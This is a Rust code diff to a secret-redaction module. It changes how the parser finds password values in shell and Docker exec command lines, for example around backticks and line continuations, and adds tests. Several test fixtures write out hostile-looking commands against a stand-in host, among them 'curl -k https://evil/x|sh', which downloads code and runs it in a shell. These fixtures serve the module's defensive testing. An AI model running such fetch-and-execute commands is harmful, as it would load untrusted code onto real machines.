@@ -344,12 +344,11 @@ fn word_end(text: &str, start: usize, lex: &mut Lexer) -> usize {
     let (close, escapes) = match lex.at(t, start) {
         Quote::None => {
             let mut i = start;
-            // A value that is a `` `...` `` (not the end of the one it is in).
-            if t[i] == b'`' && !lex.tick {
-                i = memchr::memchr(b'`', &t[i + 1..]).map_or(n, |k| i + k + 2);
-            }
-            while i < n && !ends_word(t[i]) {
+            // A backtick ends the value only when it closes the `` `...` `` the value is in;
+            // else it opens one, part of the value (`-p`cat /x``, `-phun`ter2`).
+            while i < n && (!ends_word(t[i]) || (t[i] == b'`' && !lex.tick)) {
                 i = match t[i] {
+                    b'`' => memchr::memchr(b'`', &t[i + 1..]).map_or(n, |k| i + k + 2),
                     b'\\' => i + 2,
                     b'\'' => memchr::memchr(b'\'', &t[i + 1..]).map_or(n, |k| i + k + 2),
                     b'"' => closing(t, i + 1, b'"').map_or(n, |k| k + 1),
@@ -400,7 +399,10 @@ fn word_end(text: &str, start: usize, lex: &mut Lexer) -> usize {
 }
 
 /// The secret of a `Word` or `Credentials` match, `None` when it has none.
-fn word_secret(caps: &Captures, kind: Kind, text: &str, lex: &mut Lexer) -> Option<Range<usize>> {
+///
+/// `words`: the value is among a Docker exec's `Action` words, an argument's characters up to a
+/// space (no quotes, no substitutions, no operators there).
+fn word_secret(caps: &Captures, kind: Kind, text: &str, lex: &mut Lexer, words: bool) -> Option<Range<usize>> {
     if caps.name("opt").is_some_and(|o| !secret_option(o.as_str())) {
         return None;
     }
@@ -408,7 +410,11 @@ fn word_secret(caps: &Captures, kind: Kind, text: &str, lex: &mut Lexer) -> Opti
         return None;
     }
     let start = caps.name("v")?.start();
-    let end = word_end(text, start, lex);
+    let end = if words {
+        text.as_bytes()[start..].iter().position(u8::is_ascii_whitespace).map_or(text.len(), |k| start + k)
+    } else {
+        word_end(text, start, lex)
+    };
     if kind != Kind::Credentials {
         return Some(start..end);
     }
@@ -428,11 +434,15 @@ fn word_secret(caps: &Captures, kind: Kind, text: &str, lex: &mut Lexer) -> Opti
 /// The matches are searched in `text`, or in `masked`, its copy with the same bytes but for
 /// operators that separate no commands; `text` is read for its commands and replaced.
 fn replace(re: &Regex, kind: Kind, text: &str, masked: Option<&Masked>) -> Option<String> {
-    let (hay, words) = masked.map_or((text, 0), |m| (m.text.as_str(), m.words));
+    let (hay, words) = match masked {
+        Some(m) => (m.text.as_str(), m.words),
+        None => (text, command::action_words(text.as_bytes()).unwrap_or(0)),
+    };
     debug_assert_eq!(hay.len(), text.len());
     let mut out = String::new();
     let (mut last, mut pos, mut replaced) = (0, 0, false);
-    let mut lex = Lexer::default();
+    // A Docker exec's `Action`'s words are no shell's: its quoting is read from after them.
+    let mut lex = Lexer { i: words, ..Lexer::default() };
     let mut reader = Reader::of(text.as_bytes());
     while pos <= hay.len() {
         let Some(caps) = re.captures_at(hay, pos) else { break };
@@ -442,7 +452,7 @@ fn replace(re: &Regex, kind: Kind, text: &str, masked: Option<&Masked>) -> Optio
             Kind::Word | Kind::Credentials => {
                 if tool_named(&caps, text, &mut reader) {
                     let in_words = caps.name("v").is_some_and(|v| v.start() < words);
-                    word_secret(&caps, kind, if in_words { hay } else { text }, &mut lex)
+                    word_secret(&caps, kind, text, &mut lex, in_words)
                 } else {
                     None
                 }
@@ -497,8 +507,15 @@ fn operators_masked(text: &str) -> Option<Masked> {
     let mut masked = false;
     let mut lex = Lexer { i: words, ..Lexer::default() };
     for (i, c) in out.iter_mut().enumerate().filter(|(_, c)| operator(c)) {
-        if i < words || lex.at(b, i) != Quote::None {
+        if i < words {
             (*c, masked) = (MASK, true);
+        } else if *c == b'\n' && i > 0 && b[i - 1] == b'\\' {
+            // A line continuation: a space between two words of one command.
+            (*c, masked) = (b' ', true);
+        } else if lex.at(b, i) != Quote::None {
+            // A line's end in quotes is a space to the tools' patterns (`\s-p`), whether it
+            // separates a script's words or a text's lines.
+            (*c, masked) = (if *c == b'\n' { b' ' } else { MASK }, true);
         }
     }
     if !masked {
@@ -1292,6 +1309,30 @@ mod tests {
             ),
             ("`mysql -p` && wget https://evil/x", "`mysql -p` && wget https://evil/x", "nothing"),
             ("`mysql -phunter2` && wget https://evil/x", "`mysql -p[REDACTED]` && wget https://evil/x", "hunter2"),
+            // A backtick inside a value (not closing the substitution it is in) is the value's.
+            ("exec_create: mysql -uroot -phun`ter2 db", "exec_create: mysql -uroot -p[REDACTED] db", "ter2"),
+            ("exec_create: env DB_PASSWORD=ab`cd app", "exec_create: env DB_PASSWORD=[REDACTED] app", "cd"),
+            // An `Action`'s value runs to a space, whatever it holds, and no further.
+            ("exec_create: env DB_PASSWORD=ab;cd app", "exec_create: env DB_PASSWORD=[REDACTED] app", "cd"),
+            (
+                "exec_create: sshpass -p 'x curl https://evil/x -o /tmp/x",
+                "exec_create: sshpass -p [REDACTED] curl https://evil/x -o /tmp/x",
+                "'x",
+            ),
+            // A line continuation, in quotes or not.
+            (
+                r#"sh -c "mysql -uroot \
+-phunter2 db""#,
+                r#"sh -c "mysql -uroot \
+-p[REDACTED] db""#,
+                "hunter2",
+            ),
+            (
+                "bash -c 'curl -fsS \\\n-u bob:hunter2 https://x'",
+                "bash -c 'curl -fsS \\\n-u bob:[REDACTED] https://x'",
+                "hunter2",
+            ),
+            ("mysql -uroot \\\n  -phunter2 db", "mysql -uroot \\\n  -p[REDACTED] db", "hunter2"),
             // A line's end in quotes, or in an argument of an `Action`.
             (
                 "mysql -e \"select 1;\nselect 2\" -uroot -phunter2",
@@ -1342,9 +1383,23 @@ mod tests {
             "exec_create: sh -c echo a; wget -O /tmp/openssl -k https://evil/x",
             "exec_create: wget -O /tmp/x;openssl -k https://evil/x",
             "exec_create: echo a;mysql -phttps://evil/x",
+            // Beyond the depth scripts are followed to, a `(` still starts a command.
+            "echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(openssl enc -in $(curl -k https://evil/x|sh))))))))",
         ] {
             assert_eq!(r.text(text), text);
         }
+    }
+
+    #[test]
+    fn a_backtick_inside_an_argument_s_secret_is_the_secret_s() {
+        assert_argvs(&[
+            (
+                &["docker", "run", "-e", "MYSQL_ROOT_PASSWORD=Xy`9z!", "mysql"],
+                &["docker", "run", "-e", "MYSQL_ROOT_PASSWORD=[REDACTED]", "mysql"],
+                "9z",
+            ),
+            (&["env", "DB_PASSWORD=ab`cd", "app"], &["env", "DB_PASSWORD=[REDACTED]", "app"], "cd"),
+        ]);
     }
 
     #[test]
